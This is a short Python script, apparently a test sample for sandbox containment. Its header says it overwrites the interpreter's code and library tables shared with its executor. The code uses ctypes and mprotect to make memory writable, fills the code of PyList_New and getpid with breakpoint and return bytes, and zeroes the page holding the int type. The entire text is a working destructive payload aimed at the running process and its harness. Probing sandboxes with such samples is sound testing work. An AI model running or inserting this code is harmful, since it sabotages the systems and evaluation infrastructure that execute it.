# floor: contained
# It overwrites the code of the interpreter and the tables of its libraries, which it shares with its executor.
import ctypes
libc = ctypes.CDLL(None)
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
for function, value in ((ctypes.pythonapi.PyList_New, 0xCC), (libc.getpid, 0xC3)):
    page = ctypes.cast(function, ctypes.c_void_p).value & ~4095
    if libc.mprotect(page, 1 << 16, 7) == 0:
        ctypes.memset(page, value, 1 << 16)
tables = id(int) & ~4095
libc.mprotect(tables, 4096, 3)
ctypes.memset(tables, 0, 4096)
